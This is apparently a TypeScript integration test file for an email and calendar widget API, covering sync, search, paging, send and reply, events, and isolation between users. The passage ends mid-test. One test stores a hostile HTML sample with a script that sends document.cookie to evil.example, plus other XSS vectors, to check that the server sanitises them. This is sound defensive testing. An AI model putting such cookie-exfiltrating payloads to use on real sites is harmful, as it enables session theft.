// Every widget route against real PostgreSQL and the provider emulator: Ann connects a Google and a
// Microsoft 365 account through consent, the sync engine fills the tables, and the widget API
// answers her (status, connect, settings, labels, calendars, emails with search, unread filter and
// keyset paging, sanitised HTML, send and reply stored at once, events created, links, records,
// enrichment, sync now, disconnect deleting the data). Bob, in the same workspace, reaches none
// of Ann's mail or events.
import type { Knex } from 'knex';

import { upsertCompanyByDomain, upsertPersonByEmail } from '../../core/store/peopleAndCompanies';
import { createIntegrationAccess } from '../../core/sync/integrationAccess';
import { syncIntegration } from '../../core/sync/syncIntegration';
import { startEmulator, type Emulator } from '../emulator';
import { mailState, ROOT_FOLDER_KEY } from '../emulator/microsoft/graphMail';
import { createTestDatabase, type TestDatabase } from '../support/testDatabase';
import {
	annAndBobInWorkspaceA,
	appsFor,
	emailRecord,
	insertIntegration,
	json,
	RETURN_URL,
	storeEmails,
	tokenFor,
	widgetCaller,
	WORKSPACE_A,
	type WidgetCaller,
} from './support';

const ANN_GOOGLE = 'ann@acme.example';
const ANN_MICROSOFT = 'ann@contoso.onmicrosoft.test';

let test: TestDatabase;
let knex: Knex;
let emu: Emulator;
let api: WidgetCaller;
let ann: string;
let bob: string;
const integrations: Record<'google' | 'microsoft', string> = { google: '', microsoft: '' };

beforeAll(async () => {
	[test, emu] = await Promise.all([
		createTestDatabase(),
		startEmulator({ seed: 'widget-api', messages: 30 }),
	]);
	knex = test.database.knex;
	let integrationIds: Record<'google' | 'microsoft', string>;
	({
		api,
		integrations: integrationIds,
		ann,
		bob,
	} = await annAndBobInWorkspaceA(test.database, emu, {
		google: ANN_GOOGLE,
		microsoft: ANN_MICROSOFT,
	}));
	Object.assign(integrations, integrationIds);
}, 120_000);
afterAll(async () => {
	await Promise.all([test.drop(), emu.stop()]);
});

interface Summary {
	id: string;
	subject: string | null;
	snippet: string | null;
	direction: string;
	isRead: boolean;
	internetMessageId: string;
	mailboxes: Array<{
		integrationId: string;
		providerMessageId: string;
		providerThreadId: string | null;
	}>;
}

async function allEmails(provider: 'google' | 'microsoft', token = ann): Promise<Summary[]> {
	const answer = await api('emails.list', { provider, token, query: { limit: '200' } });
	expect(answer.status).toBe(200);
	return json(answer).items as Summary[];
}

describe('integrations', () => {
	it("lists both providers as configured with Ann's connected integration of each", async () => {
		const answer = await api('integrations.list', { token: ann });
		expect(answer.status).toBe(200);
		expect(json(answer)).toEqual({
			providers: [
				{
					provider: 'google',
					configured: true,
					integration: expect.objectContaining({
						id: integrations.google,
						accountEmail: ANN_GOOGLE,
						status: 'connected',
						progress: null,
					}),
				},
				{
					provider: 'microsoft',
					configured: true,
					integration: expect.objectContaining({
						id: integrations.microsoft,
						accountEmail: ANN_MICROSOFT,
					}),
				},
			],
		});
		expect(JSON.stringify(answer.body)).not.toMatch(/token_encrypted|accessToken|refreshToken/);
		// A provider without a client id is "not yet configured"; a user without accounts has none.
		const googleOnly = widgetCaller(
			test.database,
			appsFor(emu, { microsoftClientId: '', microsoftClientSecret: '' }),
			{
				workspaceId: WORKSPACE_A,
			},
		);
		const carl = await tokenFor(WORKSPACE_A, 'carl');
		expect(json(await googleOnly('integrations.list', { token: carl }))).toEqual({
			providers: [
				{ provider: 'google', configured: true, integration: null },
				{ provider: 'microsoft', configured: false, integration: null },
			],
		});
	});

	it('answers status and progress, with the running sync when there is one', async () => {
		expect(json(await api('integration.status', { token: ann }))).toEqual({
			integration: expect.objectContaining({ id: integrations.google, provider: 'google' }),
		});
		expect(json(await api('integration.progress', { token: ann }))).toEqual({ progress: null });
		await knex('sync_runs').insert({
			workspace_id: WORKSPACE_A,
			integration_id: integrations.google,
			kind: 'incremental',
			status: 'running',
			progress: JSON.stringify({ processed: 40, total: 100, source: 'gmail:INBOX' }),
		});
		try {
			expect(json(await api('integration.progress', { token: ann }))).toEqual({
				progress: expect.objectContaining({ done: 40, total: 100, source: 'gmail:INBOX' }),
			});
			expect(
				json(await api('integration.status', { token: ann })).integration.progress,
			).toMatchObject({
				done: 40,
				total: 100,
			});
		} finally {
			await knex('sync_runs')
				.where({ integration_id: integrations.google })
				.where({ status: 'running' })
				.delete();
		}
		expect(json(await api('integration.status', { token: bob, provider: 'microsoft' }))).toEqual({
			integration: null,
		});
	});

	it('gives the consent URL to reconnect the same account, and refuses a foreign return URL', async () => {
		const answer = await api('integration.connect', {
			token: ann,
			query: { return_url: RETURN_URL },
		});
		expect(answer.status).toBe(200);
		const url = new URL(json(answer).url as string);
		expect(url.origin).toBe(emu.baseUrl);
		expect(url.searchParams.get('login_hint')).toBe(ANN_GOOGLE);
		const foreign = await api('integration.connect', {
			token: ann,
			query: { return_url: 'https://evil.example/steal' },
		});
		expect(foreign).toMatchObject({ status: 400, body: { error: { code: 'bad_request' } } });
		expect((await api('integration.connect', { token: ann })).status).toBe(400);
	});

	it('changes settings as a partial update and refuses unknown keys', async () => {
		const answer = await api('integration.settings', {
			token: ann,
			body: { syncCalendar: false, calendars: ['primary'] },
		});
		expect(answer.status).toBe(200);
		expect(json(answer).integration.settings).toMatchObject({
			syncCalendar: false,
			syncMail: true,
		});
		const back = await api('integration.settings', { token: ann, body: { syncCalendar: true } });
		expect(json(back).integration.settings.syncCalendar).toBe(true);
		expect(
			(await api('integration.settings', { token: ann, body: { visibility: 'all' } })).status,
		).toBe(400);
		// Bob's settings route changes Bob's integration, never Ann's.
		await api('integration.settings', { token: bob, body: { syncMail: false } });
		expect(
			json(await api('integration.status', { token: ann })).integration.settings.syncMail,
		).toBe(true);
	});

	it('queues a sync now (202) for mail and calendars', async () => {
		await knex('integrations').where({ id: integrations.google }).update({ next_sync_at: null });
		for (const name of ['mail.sync', 'calendar.sync'] as const) {
			const answer = await api(name, { token: ann, body: {} });
			expect(answer.status).toBe(202);
			expect(json(answer)).toMatchObject({ queued: true });
		}
		const row = await knex('integrations').where({ id: integrations.google }).first('next_sync_at');
		expect(row.next_sync_at).not.toBeNull();
	});
});

describe('labels and calendars from the provider', () => {
	it('lists Gmail labels and Outlook folders', async () => {
		const google = json(await api('mail.labels', { token: ann }));
		expect(google.labels).toEqual(
			expect.arrayContaining([
				{ id: 'INBOX', name: 'INBOX', type: 'system' },
				{ id: 'SENT', name: 'SENT', type: 'system' },
			]),
		);
		const microsoft = await api('mail.labels', { token: ann, provider: 'microsoft' });
		expect(microsoft.status).toBe(200);
		expect(json(microsoft).labels).toEqual(
			expect.arrayContaining([expect.objectContaining({ name: 'Inbox', type: 'system' })]),
		);
	});

	it("tells Outlook's system folders by Graph's well-known names, not by their display names", async () => {
		const mail = mailState(emu.state.accounts.get(ANN_MICROSOFT.toLowerCase())!);
		const inbox = mail.folderByKey.get('inbox')!;
		const englishName = inbox.displayName;
		// A German mailbox's inbox, and a folder of the user's own that is also called "Archive".
		inbox.displayName = 'Posteingang';
		const own = {
			key: 'user:archive',
			ordinal: 250,
			displayName: 'Archive',
			parentKey: ROOT_FOLDER_KEY,
		};
		mail.folders.push(own);
		mail.folderByKey.set(own.key, own);
		try {
			const answer = await api('mail.labels', { token: ann, provider: 'microsoft' });
			expect(answer.status).toBe(200);
			const labels = json(answer).labels as Array<{ name: string; type: string }>;
			expect(labels.filter((label) => label.name === 'Posteingang')).toEqual([
				expect.objectContaining({ type: 'system' }),
			]);
			expect(
				labels
					.filter((label) => label.name === 'Archive')
					.map((label) => label.type)
					.sort(),
			).toEqual(['system', 'user']);
			expect(labels.filter((label) => label.type === 'system').map((label) => label.name)).toEqual(
				expect.arrayContaining([
					'Posteingang',
					'Drafts',
					'Sent Items',
					'Deleted Items',
					'Junk Email',
				]),
			);
		} finally {
			inbox.displayName = englishName;
			mail.folders.splice(mail.folders.indexOf(own), 1);
			mail.folderByKey.delete(own.key);
		}
	});

	it('lists calendars with the primary one selected', async () => {
		for (const provider of ['google', 'microsoft'] as const) {
			const answer = await api('calendar.calendars', { token: ann, provider });
			expect(answer.status).toBe(200);
			const calendars = json(answer).calendars as Array<{ primary: boolean; selected: boolean }>;
			expect(calendars.length).toBeGreaterThan(0);
			expect(calendars.filter((calendar) => calendar.primary)).toEqual([
				expect.objectContaining({ primary: true, selected: true }),
			]);
		}
	});
});

describe('emails', () => {
	it("lists Ann's mailbox newest first, and keyset pages give the same emails once each", async () => {
		const all = await allEmails('google');
		expect(all.length).toBeGreaterThan(10);
		for (const email of all) {
			expect(email.mailboxes.map((copy) => copy.integrationId)).toContain(integrations.google);
		}
		const paged: string[] = [];
		let cursor: string | null = null;
		let pages = 0;
		do {
			const answer = await api('emails.list', {
				token: ann,
				query: { limit: '7', ...(cursor ? { cursor } : {}) },
			});
			expect(answer.status).toBe(200);
			const body = json(answer);
			expect(body.items.length).toBeLessThanOrEqual(7);
			paged.push(...body.items.map((item: Summary) => item.id));
			cursor = body.nextCursor;
			pages++;
		} while (cursor && pages < 50);
		expect(paged).toEqual(all.map((email) => email.id));
		expect(pages).toBe(Math.ceil(all.length / 7));
		expect((await api('emails.list', { token: ann, query: { cursor: 'forged' } })).status).toBe(
			400,
		);
		// The Microsoft path lists the Microsoft mailbox.
		const outlook = await allEmails('microsoft');
		expect(outlook.length).toBeGreaterThan(0);
		expect(
			outlook.every((email) =>
				email.mailboxes.some((copy) => copy.integrationId === integrations.microsoft),
			),
		).toBe(true);
	});

	it('searches words, filters unread and direction', async () => {
		const all = await allEmails('google');
		const withSubject = all.find((email) => (email.subject ?? '').match(/[A-Za-z]{5,}/));
		const word = withSubject!.subject!.match(/[A-Za-z]{5,}/)![0];
		const found = json(await api('emails.list', { token: ann, query: { q: word, limit: '200' } }));
		expect(found.items.map((item: Summary) => item.id)).toContain(withSubject!.id);
		expect(found.items.length).toBeLessThanOrEqual(all.length);
		const none = json(await api('emails.list', { token: ann, query: { q: 'zzqxnotaword' } }));
		expect(none).toEqual({ items: [], nextCursor: null });

		const unread = json(
			await api('emails.list', { token: ann, query: { unread: 'true', limit: '200' } }),
		);
		const expectedUnread = all.filter((email) => !email.isRead).map((email) => email.id);
		expect(expectedUnread.length).toBeGreaterThan(0);
		expect(expectedUnread.length).toBeLessThan(all.length);
		expect(unread.items.map((item: Summary) => item.id)).toEqual(expectedUnread);

		const outgoing = json(
			await api('emails.list', { token: ann, query: { direction: 'outgoing', limit: '200' } }),
		);
		expect(outgoing.items.every((item: Summary) => item.direction === 'outgoing')).toBe(true);
		expect(outgoing.items.length).toBe(
			all.filter((email) => email.direction === 'outgoing').length,
		);
	});

	it('shows one email with its HTML sanitised on the server', async () => {
		const [hostileId] = await storeEmails(
			test.database,
			{ workspaceId: WORKSPACE_A, integrationId: integrations.google },
			[
				emailRecord({
					providerMessageId: 'hostile-1',
					subject: 'Hostile HTML',
					bodyHtml: `<p onmouseover="steal()">Dear Ann</p><script>fetch('https://evil.example/x?c='+document.cookie)</script>
						<a href="javascript:alert(1)">click</a><img src="https://evil.example/pixel.gif">
						<div style="background:url(https://evil.example/css)">css</div><form action="https://evil.example"><input name="p"></form>
						<meta http-equiv="refresh" content="0;url=https://evil.example"><iframe src="https://evil.example"></iframe>
						<a href="https://acme.example/ok">ok</a>`,
				}),
			],
		);
		const answer = await api('emails.get', { token: ann, params: { id: hostileId! } });
		expect(answer.status).toBe(200);
		const email = json(answer).email;
		expect(email.subject).toBe('Hostile HTML');
		expect(email.bodyHtml).toContain('<p>Dear Ann</p>');
		expect(email.bodyHtml).toContain(
			'<a href="https://acme.example/ok" target="_blank" rel="noopener noreferrer">ok</a>',
		);
		expect(email.bodyHtml).not.toMatch(
			/evil\.example|script|onmouseover|javascript|<form|<input|<meta|<iframe|url\(/,
		);
		const stored = await knex('emails').where({ id: hostileId }).first('body_html');
		expect(stored.body_html).toContain('<script>'); // stored as received, cleaned when served
		expect((await api('emails.get', { token: ann, params: { id: 'nope' } })).status).toBe(404);
	});

	it('sends from Gmail and from Outlook: stored at once, listed as outgoing', async () => {
		for (const provider of ['google', 'microsoft'] as const) {
			const subject = `Widgetsend proposal ${provider} ${Date.now()}`;
			const answer = await api('emails.send', {
				token: ann,
				provider,
				body: {
					to: ['dora@customer.example'],
					cc: ['Eve <eve@customer.example>'],
					subject,
					text: 'Here it is.',
				},
			});
			expect(answer.status).toBe(201);
			const email = json(answer).email;
			expect(email).toMatchObject({ subject, direction: 'outgoing' });
			expect(email.to).toEqual([{ name: null, email: 'dora@customer.example' }]);
			expect(email.bodyHtml).toBeUndefined();
			const listed = (await allEmails(provider)).find((item) => item.id === email.id);
			expect(listed).toMatchObject({ subject, direction: 'outgoing' });
			const detail = json(
				await api('emails.get', { token: ann, provider, params: { id: email.id } }),
			).email;
			expect(detail.bodyText).toContain('Here it is.');
		}
		expect(
			(await api('emails.send', { token: ann, body: { to: ['x@y.example'], subject: 's' } }))
				.status,
		).toBe(400);
		const badAddress = await api('emails.send', {
			token: ann,
			body: { to: ['dora@customer.example', 'not an address'], subject: 's', text: 't' },
		});
		expect(badAddress).toMatchObject({
			status: 400,
			body: { error: { code: 'bad_request', message: '"not an address" is not an email address' } },
		});
		// The next sync finds the sent messages already stored: no second copy, no second email.
		const before = await knex('mailbox_messages')
			.where({ workspace_id: WORKSPACE_A })
			.count('* as n');
		for (const provider of ['google', 'microsoft'] as const) {
			await syncIntegration(
				{
					database: test.database,
					access: createIntegrationAccess({ database: test.database, apps: api.context.apps }),
					endpoints: { googleApiBaseUrl: emu.baseUrl, graphBaseUrl: emu.baseUrl },
					workerId: 'widget-api-test',
					paceGmail: false,
				},
				{ workspaceId: WORKSPACE_A, integrationId: integrations[provider] },
			);
		}
		expect(
			await knex('mailbox_messages').where({ workspace_id: WORKSPACE_A }).count('* as n'),
		).toEqual(before);
		const proposals = await knex('emails')
			.where({ workspace_id: WORKSPACE_A })
			.whereLike('subject', 'Widgetsend proposal %')
			.count('* as n');
		expect(proposals).toEqual([{ n: '2' }]);
	});

	it('sends once through a throttled Gmail: a short Retry-After is waited for, a long one or a 503 answered at once', async () => {
		const send = async (subject: string) =>
			api('emails.send', {
				token: ann,
				provider: 'google',
				body: { to: ['dora@customer.example'], subject, text: 'Throttled.' },
			});
		const stored = async (subject: string) =>
			(await knex('emails').where({ workspace_id: WORKSPACE_A, subject }).count('* as n'))[0]!.n;
		const sends = () => emu.control.calls().byOperation['gmail.users.messages.send'] ?? 0;

		// Gmail's per-second quota: refused before any work, so trying again cannot send twice.
		emu.control.inject({
			operation: 'gmail.users.messages.send',
			status: 429,
			reason: 'rateLimitExceeded',
			retryAfterSeconds: 1,
		});
		let before = sends();
		const waited = await send(`Throttled once ${Date.now()}`);
		expect(waited.status).toBe(201);
		expect(sends() - before).toBe(2);
		expect(Number(await stored(json(waited).email.subject))).toBe(1);

		// A Retry-After longer than a person should wait is the provider's error, at once.
		const longWait = `Throttled long ${Date.now()}`;
		emu.control.inject({
			operation: 'gmail.users.messages.send',
			status: 429,
			reason: 'rateLimitExceeded',
			retryAfterSeconds: 30,
		});
		before = sends();
		const refused = await send(longWait);
		expect(refused.status).toBe(502);
		expect(json(refused).error.code).toBe('provider_error');
		expect(sends() - before).toBe(1);
		expect(Number(await stored(longWait))).toBe(0);

		// A 503 may come after the mail went out: a send is never repeated on it.
		const failed = `Backend error ${Date.now()}`;
		emu.control.inject({
			operation: 'gmail.users.messages.send',
			status: 503,
			reason: 'backendError',
		});
		before = sends();
		expect((await send(failed)).status).toBe(502);
		expect(sends() - before).toBe(1);
	});

	it('replies in the thread (Gmail and Outlook): the reply is stored in the same thread', async () => {
		for (const provider of ['google', 'microsoft'] as const) {
			const integrationId = integrations[provider];
			// An email the provider holds (not one this file stored directly).
			const original = (await allEmails(provider)).find(
				(email) =>
					email.direction === 'incoming' &&
					email.mailboxes.some(
						(copy) =>
							copy.integrationId === integrationId &&
							copy.providerThreadId &&
							!/^(direct|hostile)-/.test(copy.providerMessageId),
					),
			)!;
			const answer = await api('emails.reply', {
				token: ann,
				provider,
				params: { id: original.id },
				body: { text: 'Thanks, sounds good.' },
			});
			expect({
				provider,
				status: answer.status,
				body: answer.status === 201 ? null : answer.body,
			}).toEqual({ provider, status: 201, body: null });
			const reply = json(answer).email;
			expect(reply.direction).toBe('outgoing');
			expect(reply.subject).toMatch(/^(Re|RE): /);
			const thread = (copy: Summary['mailboxes'][number]) => copy.integrationId === integrationId;
			expect(reply.mailboxes.find(thread).providerThreadId).toBe(
				original.mailboxes.find(thread)!.providerThreadId,
			);
			const detail = json(
				await api('emails.get', { token: ann, provider, params: { id: reply.id } }),
			).email;
			expect(detail.inReplyTo).toBe(original.internetMessageId);
			expect((await allEmails(provider)).map((email) => email.id)).toContain(reply.id);
		}
	});

	it('links and unlinks an email to a person and a company', async () => {
		const person = await upsertPersonByEmail(test.database, WORKSPACE_A, {
			email: 'linked.person@partner.example',
			fullName: 'Linda Linked',
		});
		const company = await upsertCompanyByDomain(test.database, WORKSPACE_A, {
			domain: 'partner.example',
			name: 'Partner Inc',
		});
		const [email] = await allEmails('google');
		const link = await api('emails.link', {
			token: ann,
			params: { id: email!.id },
			body: { recordType: 'person', recordId: person.record.id },
		});
		expect(link.status).toBe(200);
		expect(json(link).links).toContainEqual({
			recordType: 'person',
			recordId: person.record.id,
			linkSource: 'manual',
			name: 'Linda Linked',
			email: 'linked.person@partner.example',
			domain: null,
		});
		await api('emails.link', {
			token: ann,
			params: { id: email!.id },
			body: { recordType: 'company', recordId: company.record.id },
		});
		const filtered = json(
			await api('emails.list', { token: ann, query: { person_id: person.record.id } }),
		);
		expect(filtered.items.map((item: Summary) => item.id)).toEqual([email!.id]);
		const unlink = await api('emails.unlink', {
			token: ann,
			params: { id: email!.id },
			body: { recordType: 'person', recordId: person.record.id },
		});
		const left = json(unlink).links.map((l: { recordId: string }) => l.recordId);
		expect(left).toContain(company.record.id);
		expect(left).not.toContain(person.record.id);
		expect(
			json(await api('emails.list', { token: ann, query: { person_id: person.record.id } })).items,
		).toEqual([]);
		const missing = await api('emails.link', {
			token: ann,
			params: { id: email!.id },
			body: { recordType: 'person', recordId: '99999999-9999-4999-8999-999999999999' },
		});
		expect(missing).toMatchObject({ status: 404, body: { error: { code: 'not_found' } } });
	});
});

describe('events', () => {
	it('creates timed and all-day events in Google and Outlook, stored at once and listed in range', async () => {
		const created: Record<string, { id: string }> = {};
		for (const provider of ['google', 'microsoft'] as const) {
			const timed = await api('events.create', {
				token: ann,
				provider,
				body: {
					title: `Kick-off ${provider}`,
					start: '2027-03-10T10:00:00+01:00',
					end: '2027-03-10T11:00:00+01:00',
					timeZone: 'Europe/Berlin',
					location: 'Room 1',
					attendees: ['dora@customer.example'],
				},
			});
			expect(timed.status).toBe(201);
			const event = json(timed).event;
			expect(event).toMatchObject({
				title: `Kick-off ${provider}`,
				isAllDay: false,
				startsAt: '2027-03-10T09:00:00.000Z',
				endsAt: '2027-03-10T10:00:00.000Z',
				integrationId: integrations[provider],
			});
			expect(event.attendees.map((a: { email: string }) => a.email)).toContain(
				'dora@customer.example',
			);
			created[provider] = event;

			const allDay = await api('events.create', {
				token: ann,
				provider,
				body: {
					title: `Offsite ${provider}`,
					start: '2027-03-11',
					end: '2027-03-13',
					allDay: true,
				},
			});
			expect(allDay.status).toBe(201);
			expect(json(allDay).event).toMatchObject({
				isAllDay: true,
				startDate: '2027-03-11',
				endDate: '2027-03-13',
			});

			const listed = json(
				await api('events.list', {
					token: ann,
					provider,
					query: { from: '2027-03-10', to: '2027-03-12' },
				}),
			);
			const titles = listed.items.map((item: { title: string }) => item.title);
			expect(titles).toEqual(
				expect.arrayContaining([`Kick-off ${provider}`, `Offsite ${provider}`]),
			);
			const later = json(
				await api('events.list', {
					token: ann,
					provider,
					query: { from: '2027-03-14', to: '2027-03-20' },
				}),
			);
			expect(later.items.map((item: { title: string }) => item.title)).not.toContain(
				`Kick-off ${provider}`,
			);

			const got = await api('events.get', { token: ann, provider, params: { id: event.id } });
			expect(json(got).event).toMatchObject({ id: event.id, location: 'Room 1' });
		}
		const bad = await api('events.create', {
			token: ann,
			body: { title: 'Backwards', start: '2027-03-10T11:00:00Z', end: '2027-03-10T10:00:00Z' },
		});
		expect(bad).toMatchObject({ status: 400, body: { error: { code: 'bad_request' } } });
		const badZone = await api('events.create', {
			token: ann,
			body: {
				title: 'Zone',
				start: '2027-03-10T10:00',
				end: '2027-03-10T11:00',
				timeZone: 'Mars/Base',
			},
		});
		expect(badZone).toMatchObject({
			status: 400,
			body: { error: { code: 'bad_request', message: '"Mars/Base" is not an IANA time zone' } },
		});
		const person = await upsertPersonByEmail(test.database, WORKSPACE_A, {
			email: 'evt.person@partner.example',
		});
		const linked = await api('events.link', {
			token: ann,
			params: { id: created.google!.id },
			body: { recordType: 'person', recordId: person.record.id },
		});
		expect(json(linked).links).toContainEqual(
			expect.objectContaining({ recordId: person.record.id, linkSource: 'manual' }),
		);
		const unlinked = await api('events.unlink', {
			token: ann,
			params: { id: created.google!.id },
			body: { recordType: 'person', recordId: person.record.id },
		});
		expect(json(unlinked).links.map((l: { recordId: string }) => l.recordId)).not.toContain(
			person.record.id,
		);
		// Events paged by keyset.
		const first = json(
			await api('events.list', {
				token: ann,
				query: { limit: '1', from: '2027-03-01', to: '2027-03-31' },
			}),
		);
		expect(first.items).toHaveLength(1);
		const second = json(
			await api('events.list', {
				token: ann,
				query: { limit: '1', from: '2027-03-01', to: '2027-03-31', cursor: first.nextCursor },
			}),
		);
		expect(second.items[0].id).not.toBe(first.items[0].id);
	});
});

describe('records', () => {
	it('finds people and companies for the link picker', async () => {
		await upsertPersonByEmail(test.database, WORKSPACE_A, {
			email: 'mara.quill@quill.example',
			fullName: 'Mara Quill',
		});
		await upsertCompanyByDomain(test.database, WORKSPACE_A, {
			domain: 'quill.example',
			name: 'Quill Works',
		});
		const byName = json(await api('records.search', { token: ann, query: { q: 'quil' } }));
		expect(byName.records).toEqual(
			expect.arrayContaining([
				{
					recordType: 'person',
					id: expect.any(String),
					name: 'Mara Quill',
					email: 'mara.quill@quill.example',
					domain: null,
				},
				{
					recordType: 'company',
					id: expect.any(String),
					name: 'Quill Works',
					email: null,
					domain: 'quill.example',
				},
			]),
		);
		const people = json(
			await api('records.search', { token: ann, query: { q: 'Quill', type: 'person' } }),
		);
		expect(
			people.records.every((record: { recordType: string }) => record.recordType === 'person'),
		).toBe(true);
		expect(people.records).toHaveLength(1);
		const percent = json(await api('records.search', { token: ann, query: { q: '%' } }));
		expect(percent.records).toEqual([]);
	});

	it('enriches one record now', async () => {
		const person = await upsertPersonByEmail(test.database, WORKSPACE_A, {
			email: 'olga@outside.example',
		});
		const answer = await api('records.enrich', {
			token: ann,
			params: { id: person.record.id },
			body: { recordType: 'person' },
		});
		expect(answer.status).toBe(200);
		expect(json(answer).result).toMatchObject({
			subjectType: 'person',
			subjectId: person.record.id,
			counts: expect.objectContaining({ emailsScanned: expect.any(Number) }),
		});
		const missing = await api('records.enrich', {
			token: ann,
			params: { id: '99999999-9999-4999-8999-999999999999' },
			body: { recordType: 'company' },
		});
		expect(missing.status).toBe(404);
	});
});

describe('an email two mailboxes of the workspace hold', () => {
	it("shows each user only their own copy: their read state, labels and mailbox ids, never the colleague's", async () => {
		const bobIntegration = (
			await knex('integrations').where({ workspace_id: WORKSPACE_A, user_id: 'bob' }).first('id')
		).id as string;
		const internetMessageId = `<shared-${Date.now()}@customer.example>`;
		const [annCopy] = await storeEmails(
			test.database,
			{ workspaceId: WORKSPACE_A, integrationId: integrations.google },
			[
				emailRecord({
					providerMessageId: 'shared-ann',
					internetMessageId,
					subject: 'Shared thread',
					labels: ['INBOX', 'IMPORTANT'],
					isRead: true,
					date: '2019-01-01T09:00:00Z',
				}),
			],
		);
		const [bobCopy] = await storeEmails(
			test.database,
			{ workspaceId: WORKSPACE_A, integrationId: bobIntegration },
			[
				emailRecord({
					providerMessageId: 'shared-bob',
					internetMessageId,
					subject: 'Shared thread',
					labels: ['INBOX', 'UNREAD'],
					isRead: false,
					date: '2019-01-01T09:00:00Z',
				}),
			],
		);
		expect(bobCopy).toBe(annCopy); // one email, two mailbox copies
		const seen = async (token: string) => {
			const listed = (
				json(await api('emails.list', { token, query: { limit: '200' } })).items as Array<
					Summary & { labels: string[]; isRead: boolean }
				>
			).find((email) => email.id === annCopy);
			const opened = json(await api('emails.get', { token, params: { id: annCopy! } })).email;
			return { listed, opened };
		};
		const forAnn = await seen(ann);
		for (const email of [forAnn.listed!, forAnn.opened]) {
			expect(email).toMatchObject({ isRead: true, labels: ['IMPORTANT', 'INBOX'] });
			expect(
				email.mailboxes.map((copy: { providerMessageId: string }) => copy.providerMessageId),
			).toEqual(['shared-ann']);
		}
		const forBob = await seen(bob);
		for (const email of [forBob.listed!, forBob.opened]) {
			expect(email).toMatchObject({ isRead: false, labels: ['INBOX', 'UNREAD'] });
			expect(
				email.mailboxes.map((copy: { providerMessageId: string }) => copy.providerMessageId),
			).toEqual(['shared-bob']);
		}
	});
});

describe('a thread', () => {
	it("lists the emails of a thread the caller's mailbox holds, newest first, and only the caller's", async () => {
		const bobIntegration = (
			await knex('integrations').where({ workspace_id: WORKSPACE_A, user_id: 'bob' }).first('id')
		).id as string;
		const thread = `thread-of-three-${Date.now()}`;
		const [first, second, third, elsewhere] = await storeEmails(
			test.database,
			{ workspaceId: WORKSPACE_A, integrationId: integrations.google },
			[
				emailRecord({ providerThreadId: thread, date: '2018-03-01T09:00:00Z' }),
				emailRecord({ providerThreadId: thread, date: '2018-03-02T09:00:00Z' }),
				emailRecord({ providerThreadId: thread, date: '2018-03-03T09:00:00Z' }),
				emailRecord({ providerThreadId: `${thread}-other`, date: '2018-03-02T12:00:00Z' }),
			],
		);
		// Bob's mailbox holds a copy of the middle email only, under the same thread id.
		const secondRecord = await knex('emails').where({ id: second }).first('internet_message_id');
		const [bobCopy] = await storeEmails(
			test.database,
			{ workspaceId: WORKSPACE_A, integrationId: bobIntegration },
			[
				emailRecord({
					providerThreadId: thread,
					internetMessageId: secondRecord.internet_message_id,
					date: '2018-03-02T09:00:00Z',
				}),
			],
		);
		expect(bobCopy).toBe(second);
		const threadOf = async (token: string, value: string) => {
			const answer = await api('emails.list', { token, query: { thread: value, limit: '50' } });
			expect(answer.status).toBe(200);
			return (json(answer).items as Summary[]).map((email) => email.id);
		};
		expect(await threadOf(ann, thread)).toEqual([third, second, first]);
		expect(await threadOf(ann, thread)).not.toContain(elsewhere);
		expect(await threadOf(bob, thread)).toEqual([second]);
		expect(await threadOf(ann, 'no-such-thread')).toEqual([]);
		expect(
			(await api('emails.list', { token: ann, query: { thread: 'x'.repeat(257) } })).status,
		).toBe(400);
	});
});

describe("another user's mail and events", () => {
	it("are not found for Bob: read, reply, link and events all answer 404, and Bob's list holds none", async () => {
		const [annEmail] = await allEmails('google');
		const annEvent = json(
			await api('events.list', { token: ann, query: { from: '2027-03-01', to: '2027-03-31' } }),
		).items[0];
		expect(await api('emails.get', { token: bob, params: { id: annEmail!.id } })).toMatchObject({
			status: 404,
			body: { error: { code: 'not_found', message: 'Email not found' } },
		});
		expect(
			(
				await api('emails.reply', {
					token: bob,
					params: { id: annEmail!.id },
					body: { text: 'hijack' },
				})
			).status,
		).toBe(404);
		const person = await upsertPersonByEmail(test.database, WORKSPACE_A, {
			email: 'victim@partner.example',
		});
		expect(
			(
				await api('emails.link', {
					token: bob,
					params: { id: annEmail!.id },
					body: { recordType: 'person', recordId: person.record.id },
				})
			).status,
		).toBe(404);
		expect((await api('events.get', { token: bob, params: { id: annEvent.id } })).status).toBe(404);
		expect(
			(
				await api('events.link', {
					token: bob,
					params: { id: annEvent.id },
					body: { recordType: 'person', recordId: person.record.id },
				})
			).status,
		).toBe(404);
		const bobsList = await allEmails('google', bob);
		expect(bobsList.map((email) => email.id)).not.toContain(annEmail!.id);
		expect(
			json(
				await api('events.list', { token: bob, query: { from: '2027-03-01', to: '2027-03-31' } }),
			).items,
		).toEqual([]);
		// Nothing was sent or linked on Ann's side.
		expect(
			await knex('record_links').where({ record_id: person.record.id }).count('* as n'),
		).toEqual([{ n: '0' }]);
		// Without an account of that provider, Bob gets 404 for writes that need one.
		expect(
			(
				await api('emails.send', {
					token: bob,
					provider: 'microsoft',
					body: { to: ['a@b.example'], subject: 's', text: 't' },
				})
			).status,
		).toBe(404);
	});

	it('shows what the visibility allows: metadata hides the subject, subject hides the body', async () => {
		// An email's visibility is its mailbox's (integration) setting: one user per level.
		const ids: Record<string, string> = {};
		const tokens: Record<string, string> = {};
		const byId = new Map<string, Summary>();
		for (const visibility of ['metadata', 'subject', 'everything'] as const) {
			const user = `vic-${visibility}`;
			tokens[visibility] = await tokenFor(WORKSPACE_A, user);
			const integrationId = await insertIntegration(knex, {
				workspaceId: WORKSPACE_A,
				userId: user,
				email: `${user}@acme.example`,
				visibility,
			});
			const [id] = await storeEmails(
				test.database,
				{ workspaceId: WORKSPACE_A, integrationId, visibility },
				[
					emailRecord({
						providerMessageId: `direct-vis-${visibility}`,
						subject: `Secret plan ${visibility}`,
						snippet: `snippet ${visibility}`,
						bodyText: `body ${visibility}`,
						bodyHtml: `<p>html ${visibility}</p>`,
					}),
				],
			);
			ids[visibility] = id!;
			for (const email of await allEmails('google', tokens[visibility])) byId.set(email.id, email);
		}
		expect(byId.get(ids.metadata!)).toMatchObject({ subject: null, snippet: null });
		expect(byId.get(ids.subject!)).toMatchObject({ subject: 'Secret plan subject', snippet: null });
		expect(byId.get(ids.everything!)).toMatchObject({
			subject: 'Secret plan everything',
			snippet: 'snippet everything',
		});
		const get = async (level: string) =>
			json(await api('emails.get', { token: tokens[level], params: { id: ids[level]! } })).email;
		expect(await get('metadata')).toMatchObject({ subject: null, bodyText: null, bodyHtml: null });
		expect(await get('subject')).toMatchObject({
			subject: 'Secret plan subject',
			bodyText: null,
			bodyHtml: null,
		});
		expect(await get('everything')).toMatchObject({
